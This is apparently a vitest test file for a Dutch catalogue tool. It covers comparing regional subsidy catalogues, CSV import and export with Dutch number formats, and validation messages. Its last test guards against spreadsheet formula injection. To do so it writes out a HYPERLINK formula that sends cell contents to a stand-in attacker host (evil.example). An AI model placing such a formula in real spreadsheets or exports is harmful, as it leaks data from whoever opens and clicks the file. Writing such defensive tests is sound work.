import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { compareCatalogues } from "../src/catalogue-compare.js";
import { parseCatalogueFile } from "../src/catalogue-file.js";
import { catalogueFromCsv, catalogueToRows, rowsToCsv } from "../src/catalogue-sheet.js";
import { decimal } from "../src/money.js";

function load(key: string) {
  const parsed = parseCatalogueFile(
    JSON.parse(readFileSync(new URL(`../../db/catalogues/${key}.json`, import.meta.url), "utf8")),
  );
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
  return { key, ...parsed.catalogue };
}

describe("compareCatalogues", () => {
  it("lists what Utrecht changed between its earlier and current model, with old and new values", () => {
    const comparison = compareCatalogues(load("utrecht-earlier"), load("utrecht-current"), 2027);
    const byCode = new Map(comparison.blocks.map((b) => [b.code, b]));
    expect(byCode.get("PW")?.status).toBe("ADDED");
    expect(byCode.get("PW-LT2")?.status).toBe("REMOVED");
    expect(byCode.get("BA")).toMatchObject({
      status: "CHANGED",
      changes: [
        {
          field: "name",
          label: "naam",
          before: "Doelgroepen banenafspraak",
          after: "Doelgroep banenafspraak",
        },
        { field: "amount", label: "bedrag", before: "35000.00", after: "50000.00" },
      ],
    });
    // same value, new wording: only the name is listed as changed
    expect(byCode.get("NUG")?.changes.map((c) => c.field)).toEqual(["name"]);
    // a full year of BA at 36 hours: 35000.00 before, 50000.00 now
    expect(comparison.typicalValues.find((t) => t.code === "BA")).toEqual({
      code: "BA",
      name: "Doelgroep banenafspraak",
      // the year the newer version is for, not a fixed one
      example: "1 persoon, 36 uur per week, heel 2027",
      before: "35000.00",
      after: "50000.00",
    });
    expect(comparison.typicalValues.find((t) => t.code === "PW")).toMatchObject({
      before: null,
      after: "40000.00",
    });
    const bonus = new Map(comparison.bonuses.map((b) => [b.code, b]));
    expect(bonus.get("50PLUS")?.changes).toEqual([
      { field: "name", label: "naam", before: "50+", after: "Werkzoekende ouder dan 50 jaar" },
      { field: "amount", label: "bedrag", before: "5000.00", after: "10000.00" },
    ]);
    expect(bonus.get("STATUSHOUDER")?.status).toBe("ADDED");
    expect(comparison.basisHours).toBeNull();
  });

  it("treats equal amounts written differently as unchanged", () => {
    const a = load("leiden-2023");
    const b = {
      ...a,
      blocks: a.blocks.map((block) => ({
        ...block,
        amount: block.amount?.replace(".00", "") ?? null,
      })),
    };
    expect(
      compareCatalogues(a, b, 2027).blocks.every((block) => block.status === "UNCHANGED"),
    ).toBe(true);
  });
});

describe("catalogue spreadsheet", () => {
  const meta = { region: "Regio Test", name: "Test", validFrom: "2026-01-01", basisHours: "36" };

  it("round-trips a published catalogue through CSV", () => {
    const leiden = load("leiden-2023");
    const csv = rowsToCsv(catalogueToRows(leiden));
    expect(csv.split("\r\n")[0]).toBe(
      "soort,code,naam,categorie,waardering,bedrag,aandeel,max_maanden,min_uren_per_week,geldt_voor,eenmalig,toelichting",
    );
    const back = catalogueFromCsv(csv, { ...meta, basisHours: "36" });
    expect(back.ok).toBe(true);
    // a share comes back as the number it is ("1.00" as "1"); amounts keep their cents
    const shareByValue = (blocks: typeof leiden.blocks) =>
      blocks.map((block) => ({ ...block, share: block.share && decimal(block.share).toFixed() }));
    if (back.ok) {
      expect(shareByValue(back.catalogue.blocks)).toEqual(shareByValue(leiden.blocks));
      expect(back.catalogue.bonuses).toEqual(leiden.bonuses);
    }
  });

  it("reads Dutch Excel CSV (semicolons, decimal commas) and reports problems per line and column", () => {
    const csv = [
      "soort;code;naam;categorie;waardering;bedrag;aandeel;max_maanden;min_uren_per_week;geldt_voor;eenmalig;toelichting",
      "bouwblok;PW;Participatiewet;EMPLOYMENT;PER_FTE_YEAR;40000,00;;24;;;;",
      "bouwblok;WW;WW;EMPLOYMENT;PER_FTE_YEAR;;;12;;;;",
      "bouwblok;SO;Sociale inkoop;SOCIAL_PURCHASE;INVOICE_SHARE;;1,5;;;;;",
      "toeslag;50PLUS;50+;;;5000;;;;EMPLOYMENT;misschien;",
      "iets;X;X;;;;;;;;;",
    ].join("\n");
    const result = catalogueFromCsv(csv, meta);
    expect(result.ok).toBe(false);
    if (result.ok) return;
    expect(result.problems).toEqual([
      { path: "regel 3, bedrag", message: "bedrag ontbreekt (PER_FTE_YEAR)" },
      { path: "regel 4, aandeel", message: "aandeel moet tussen 0 en 1 liggen" },
      { path: "regel 5, eenmalig", message: 'vul "ja" of "nee" in' },
      { path: "regel 6, soort", message: 'vul "bouwblok", "toeslag" of "concept" in' },
    ]);
  });

  it("reads its numbers as the catalogue forms do: thousands dots, a decimal comma, euro signs", () => {
    const csv = [
      "soort;code;naam;categorie;waardering;bedrag;aandeel;max_maanden;min_uren_per_week;geldt_voor;eenmalig;toelichting",
      "bouwblok;PW;Participatiewet;EMPLOYMENT;PER_FTE_YEAR;1.234,56;;24;12,5;;;",
      "bouwblok;LL;Leerling;LEARNING;PER_MONTH;€ 40.000,-;;1.000;;;;",
      "bouwblok;SO;Sociale inkoop;SOCIAL_PURCHASE;INVOICE_SHARE;;0,5;;;;;",
      "toeslag;50PLUS;50+;;;EUR 5.000;;;;EMPLOYMENT;ja;",
    ].join("\n");
    const result = catalogueFromCsv(csv, meta);
    if (!result.ok) throw new Error(JSON.stringify(result.problems));
    const [pw, ll, so] = result.catalogue.blocks;
    expect([pw?.amount, pw?.maxMonths, pw?.minHoursPerWeek]).toEqual(["1234.56", 24, "12.5"]);
    expect([ll?.amount, ll?.maxMonths]).toEqual(["40000.00", 1000]);
    expect(so?.share).toBe("0.5");
    expect(result.catalogue.bonuses[0]?.amount).toBe("5000.00");
  });

  it("refuses a number the forms refuse, once, in the forms' words", () => {
    const csv = [
      "soort;code;naam;categorie;waardering;bedrag;aandeel;max_maanden;min_uren_per_week;geldt_voor;eenmalig;toelichting",
      "bouwblok;PW;Participatiewet;EMPLOYMENT;PER_FTE_YEAR;1.2,5;;24;;;;",
      "bouwblok;LL;Leerling;LEARNING;PER_MONTH;100;;7,5;;;;",
      "toeslag;50PLUS;50+;;;1,234.56;;;;EMPLOYMENT;ja;",
    ].join("\n");
    expect(catalogueFromCsv(csv, meta)).toEqual({
      ok: false,
      problems: [
        {
          path: "regel 2, bedrag",
          message: "Schrijf het bedrag in euro's, bijvoorbeeld 40.000 of 40000,00.",
        },
        {
          path: "regel 3, max_maanden",
          message: "De maximale duur in maanden is een heel getal, zonder komma.",
        },
        {
          path: "regel 4, bedrag",
          message: "Schrijf het bedrag in euro's, bijvoorbeeld 40.000 of 40000,00.",
        },
      ],
    });
  });

  it("says which columns are missing", () => {
    const result = catalogueFromCsv("code,naam\nPW,Participatiewet\n", meta);
    expect(result).toEqual({
      ok: false,
      problems: [
        {
          path: "regel 1",
          message:
            "kolommen ontbreken: soort, categorie, waardering, bedrag, aandeel, max_maanden, min_uren_per_week, geldt_voor, eenmalig",
        },
      ],
    });
  });
});

describe("spreadsheet exports against formula injection", () => {
  it("writes formula-like cells as text and reads them back unchanged", () => {
    const leiden = load("leiden-2023");
    const [first, ...rest] = leiden.blocks;
    if (!first) throw new Error("leiden-2023 has blocks");
    const hostile = {
      ...first,
      name: '=HYPERLINK("https://evil.example/?d="&A1,"Klik")',
      note: "@SUM(1+1)",
    };
    const csv = rowsToCsv(catalogueToRows({ blocks: [hostile, ...rest], bonuses: leiden.bonuses }));
    const line = csv.split("\r\n")[1] ?? "";
    expect(line).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klik"")"`);
    expect(line).toContain(",'@SUM(1+1)");
    // no cell of any line starts a formula
    expect(csv.split(/\r\n/).some((l) => /(^|,)"?[=+@]/.test(l))).toBe(false);
    const back = catalogueFromCsv(csv, {
      region: "Regio Test",
      name: "Test",
      validFrom: "2026-01-01",
      basisHours: "36",
    });
    expect(back.ok && back.catalogue.blocks[0]).toEqual(hostile);
  });
});
